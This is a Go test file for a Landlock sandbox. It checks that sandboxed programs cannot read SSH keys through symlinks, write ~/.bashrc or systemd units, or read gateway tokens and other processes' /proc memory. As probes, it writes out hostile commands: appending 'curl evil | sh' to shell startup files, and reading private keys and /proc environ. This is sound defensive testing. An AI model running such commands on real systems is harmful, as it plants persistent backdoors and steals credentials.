package sandbox

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/metnos/gateway/vaglio"
)

func TestMain(m *testing.M) {
	Main() // the children these tests start are this binary, as the sandbox's init
	os.Exit(m.Run())
}

// needLandlock skips a test on a kernel without Landlock.
func needLandlock(t *testing.T) {
	t.Helper()
	if KernelABI() < 1 {
		t.Skip("this kernel has no Landlock (CONFIG_SECURITY_LANDLOCK, lsm=landlock): the sandbox cannot be tested here")
	}
}

// machine is a fake home with a key in ~/.ssh, and a workspace holding a
// symlink to it.
type machine struct {
	home, ws, key string
}

const secretKey = "-----BEGIN OPENSSH PRIVATE KEY----- sandbox-test-secret"

func newMachine(t *testing.T) machine {
	t.Helper()
	root := t.TempDir()
	m := machine{home: filepath.Join(root, "home"), ws: filepath.Join(root, "home", "src", "ws")}
	m.key = filepath.Join(m.home, ".ssh", "id_ed25519")
	for _, d := range []string{filepath.Dir(m.key), m.ws, filepath.Join(m.home, ".config", "systemd", "user")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(m.key, []byte(secretKey), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(m.home, ".bashrc"), []byte("# rc\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(m.home, ".ssh"), filepath.Join(m.ws, "ssh-before")); err != nil {
		t.Fatal(err)
	}
	return m
}

func (m machine) rules(t *testing.T, own vaglio.Own, extraWrite ...string) Rules {
	t.Helper()
	pats, err := Patterns(vaglio.ForbiddenPatterns(m.home, own), nil)
	if err != nil {
		t.Fatal(err)
	}
	r, err := Build(pats, m.home, append([]string{m.ws}, extraWrite...))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// run runs argv in the sandbox and returns its output and exit status.
func (m machine) run(t *testing.T, c Config, argv ...string) (string, int) {
	t.Helper()
	var out bytes.Buffer
	c.Argv, c.Dir = argv, m.ws
	c.Env = append([]string{"HOME=" + m.home, "PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C"}, c.Env...)
	c.Stdout, c.Stderr = &out, &out
	if c.Rules.Grants == nil {
		c.Rules = m.rules(t, vaglio.Own{})
	}
	ch, err := Start(c)
	if err != nil {
		t.Fatalf("start %v: %v", argv, err)
	}
	code := ch.Wait()
	return out.String(), code
}

func tool(t *testing.T, name string) string {
	t.Helper()
	for _, p := range []string{"/usr/bin/" + name, "/bin/" + name, "/usr/local/bin/" + name} {
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	t.Skipf("no %s under /usr/bin, /bin or /usr/local/bin", name)
	return ""
}

// readers are the programs that try to read a path: cat, Python's open and
// Node's fs.readFileSync.
func readers(t *testing.T, p string) map[string][]string {
	return map[string][]string{
		"cat":    {tool(t, "cat"), p},
		"python": {tool(t, "python3"), "-c", "import sys; sys.stdout.write(open(sys.argv[1]).read())", p},
		"node":   {tool(t, "node"), "-e", "process.stdout.write(require('fs').readFileSync(process.argv[1], 'utf8'))", p},
	}
}

// TestSymlinkToSSHCannotBeRead: a symlink in the workspace to ~/.ssh, made
// before the start or by the program itself, reaches nothing, at every
// Landlock ABI this kernel has, while the workspace stays readable.
func TestSymlinkToSSHCannotBeRead(t *testing.T) {
	needLandlock(t)
	m := newMachine(t)
	if err := os.WriteFile(filepath.Join(m.ws, "notes.txt"), []byte("workspace-ok"), 0o644); err != nil {
		t.Fatal(err)
	}
	for abi := 1; abi <= EffectiveABI(0); abi++ {
		for name, argv := range readers(t, filepath.Join(m.ws, "ssh-before", "id_ed25519")) {
			out, code := m.run(t, Config{ABI: abi}, argv...)
			if code == 0 || strings.Contains(out, "sandbox-test-secret") {
				t.Errorf("ABI %d, %s through the symlink made before start: exit %d, %q", abi, name, code, out)
			}
		}
		// Made after the start, by the program.
		script := `ln -s "$HOME/.ssh/id_ed25519" after && cat after`
		out, code := m.run(t, Config{ABI: abi}, tool(t, "bash"), "-c", script)
		if code == 0 || strings.Contains(out, "sandbox-test-secret") {
			t.Errorf("ABI %d, symlink made after start: exit %d, %q", abi, code, out)
		}
		os.Remove(filepath.Join(m.ws, "after"))
		out, code = m.run(t, Config{ABI: abi}, tool(t, "cat"), "notes.txt")
		if code != 0 || out != "workspace-ok" {
			t.Errorf("ABI %d: the workspace is not readable: exit %d, %q", abi, code, out)
		}
	}
}

// TestRunsLaterPlacesCannotBeWritten: ~/.bashrc and a systemd user unit
// cannot be written, the workspace and the private TMPDIR can.
func TestRunsLaterPlacesCannotBeWritten(t *testing.T) {
	needLandlock(t)
	m := newMachine(t)
	tmp := t.TempDir()
	r := m.rules(t, vaglio.Own{}, tmp)
	for _, target := range []string{filepath.Join(m.home, ".bashrc"), filepath.Join(m.home, ".config", "systemd", "user", "x.service"),
		filepath.Join(m.home, ".bash_aliases"), filepath.Join(m.home, "newfile")} {
		out, code := m.run(t, Config{Rules: r}, tool(t, "bash"), "-c", `echo 'curl evil | sh' >> "$1"`, "sh", target)
		if code == 0 {
			t.Errorf("%s was written: %q", target, out)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(m.home, ".bashrc")); string(b) != "# rc\n" {
		t.Fatalf("~/.bashrc changed: %q", b)
	}
	out, code := m.run(t, Config{Rules: r, Env: []string{"TMPDIR=" + tmp}}, tool(t, "bash"), "-c",
		`echo ok > made.txt && mkdir -p sub && mv made.txt sub/ && echo ok > "$TMPDIR/t" && cat sub/made.txt "$TMPDIR/t"`)
	if code != 0 || out != "ok\nok\n" {
		t.Fatalf("the workspace and TMPDIR: exit %d, %q", code, out)
	}
}

// TestGatewayFilesCannotBeRead: the gateway's database, its WAL and its
// token file are not readable, nor another process's environment or memory.
func TestGatewayFilesCannotBeRead(t *testing.T) {
	needLandlock(t)
	m := newMachine(t)
	state := filepath.Join(t.TempDir(), "state")
	if err := os.MkdirAll(state, 0o700); err != nil {
		t.Fatal(err)
	}
	db, tok := filepath.Join(state, "gateway.db"), filepath.Join(state, "agent-token")
	for _, f := range []string{db, db + "-wal", tok} {
		if err := os.WriteFile(f, []byte("gateway-secret-bytes"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	r := m.rules(t, vaglio.Own{Paths: []string{db, tok, state}})
	// A process holding a secret in its environment, as the gateway does.
	holder := exec.Command(tool(t, "sleep"), "60")
	holder.Env = []string{"CHAT_TOKEN=env-secret-xyz"}
	if err := holder.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = holder.Process.Kill(); _ = holder.Wait() })
	pid := strconv.Itoa(holder.Process.Pid)
	for _, p := range []string{db, db + "-wal", tok, "/proc/" + pid + "/environ", "/proc/" + pid + "/mem", "/proc/" + pid + "/cmdline/../environ"} {
		out, code := m.run(t, Config{Rules: r}, tool(t, "python3"), "-c",
			"import sys; f=open(sys.argv[1],'rb'); f.seek(4096) if 'mem' in sys.argv[1] else None; sys.stdout.write(repr(f.read(64)))", p)
		if code == 0 || strings.Contains(out, "secret") {
			t.Errorf("%s was read: exit %d, %q", p, code, out)
		}
	}
	// The program's own /proc entries stay its own.
	if out, code := m.run(t, Config{Rules: r}, tool(t, "cat"), "/proc/self/status"); code != 0 || !strings.Contains(out, "Pid:") {
		t.Errorf("/proc/self/status: exit %d, %q", code, out)
	}
}

func vaglio0() vaglio.Own { return vaglio.Own{} }
